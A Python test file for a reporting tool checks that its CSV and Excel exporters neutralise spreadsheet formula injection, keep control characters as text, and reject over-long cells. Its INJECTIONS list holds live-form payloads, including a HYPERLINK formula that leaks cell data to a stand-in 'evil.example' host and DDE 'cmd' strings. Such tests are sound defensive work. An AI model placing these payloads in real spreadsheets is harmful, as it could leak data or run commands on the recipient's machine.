"""Outputs safe to open: no department value becomes a formula in any exporter, control characters never
crash a writer, and an over-long value is reported instead of cut."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from biaotong.forms import read_form_bytes
from biaotong.forms.fill import FillRow, fill_workbook
from biaotong.reports.export import export
from biaotong.reports.export.safe import EXCEL_MAX_CHARS, CellTooLong, safe_value
from biaotong.reports.generate import generate
from biaotong.workspace import Workspace
from tests.forms.catalog_forms import DEV_FORMS
from tests.forms.conftest import draw
from tests.reports.county import COUNTY, County, install, make_county

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def test_the_one_function() -> None:
    for text in INJECTIONS:
        assert safe_value(text, "csv") == "'" + text
        assert safe_value(text, "xlsx") == text  # written with write_string / data_type "s": text, not a formula
    assert safe_value("张三", "csv") == "张三" and safe_value(-2, "csv") == -2 and safe_value(None, "xlsx") is None
    assert safe_value("a\x00b\x07c\x1fd\ufffe", "xlsx") == "a␀b␇c␟d\ufffd"
    assert safe_value("a\x07", "csv") == "a\x07"  # CSV holds any character
    with pytest.raises(CellTooLong) as err:
        safe_value("长" * (EXCEL_MAX_CHARS + 1), "xlsx", row=5, column="C")
    assert err.value.where.row == 5 and err.value.where.column == "C" and "32,767" in err.value.message


@pytest.fixture
def hostile_county(workspace: Workspace) -> Workspace:
    county: County = make_county(n_households=30)
    for ent, text in zip(county.enterprises, [*INJECTIONS, "控制\x01字符\x0b"], strict=False):
        ent["enterprise_name"] = text
    install(workspace, county)
    return workspace


def test_roster_exports_hold_no_formula(hostile_county: Workspace, tmp_path: Path) -> None:
    result = generate(hostile_county, "sc_enterprise_roster", "2025Q2", COUNTY, role="cleared")
    raw = export(result, "csv", tmp_path / "r.csv").read_bytes().decode("utf-8-sig")
    for text in INJECTIONS:
        assert '"' + "'" + text.replace('"', '""') + '"' in raw  # apostrophe first, field quoted
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)

    wb = openpyxl.load_workbook(export(result, "xlsx", tmp_path / "r.xlsx"))
    cells = [c for row in wb.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(c.data_type == "f" for c in cells)
    names = {c.value for c in cells}
    assert set(INJECTIONS) - {"\r=1+1"} <= names  # (XML normalises a lone CR; it stays text either way)
    assert "控制␁字符␋" in names


def test_the_departments_own_form_holds_no_formula_and_takes_control_characters() -> None:
    template = draw(next(c for c in DEV_FORMS if c.id == "f2_tekun"))
    layout = read_form_bytes(template)
    rows = [FillRow({"B": 1}, {"org": text}, name=text) for text in [*INJECTIONS, "坏\x00字\x1b符"]]
    ws = openpyxl.load_workbook(io.BytesIO(fill_workbook(template, layout, rows, notes={"org": "=cmd|' /C calc'!A0"}))).active
    first = layout.first_data_row
    got = [ws.cell(first + i, 1) for i in range(len(rows))]
    assert all(c.data_type == "s" for c in got)
    assert got[0].value == INJECTIONS[0] and got[-1].value == "坏␀字␛符"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "cmd" in c.value)


def test_an_over_long_value_is_reported_not_cut(tmp_path: Path) -> None:
    template = draw(next(c for c in DEV_FORMS if c.id == "f2_tekun"))
    layout = read_form_bytes(template)
    with pytest.raises(CellTooLong) as err:
        fill_workbook(template, layout, [FillRow({"B": 1}, name="长" * 40_000)])
    assert "40,000" in err.value.message and err.value.where.column == "A"


def test_an_over_long_roster_value_stops_the_xlsx_export(workspace: Workspace, tmp_path: Path) -> None:
    county = make_county(n_households=20)
    county.enterprises[0]["enterprise_name"] = "长" * 40_000
    install(workspace, county)
    result = generate(workspace, "sc_enterprise_roster", "2025Q2", COUNTY, role="cleared")
    with pytest.raises(CellTooLong):
        export(result, "xlsx", tmp_path / "r.xlsx")
    assert not (tmp_path / "r.xlsx").exists()  # nothing half-written left behind
    assert "长" * 40_000 in export(result, "csv", tmp_path / "r.csv").read_text(encoding="utf-8-sig")
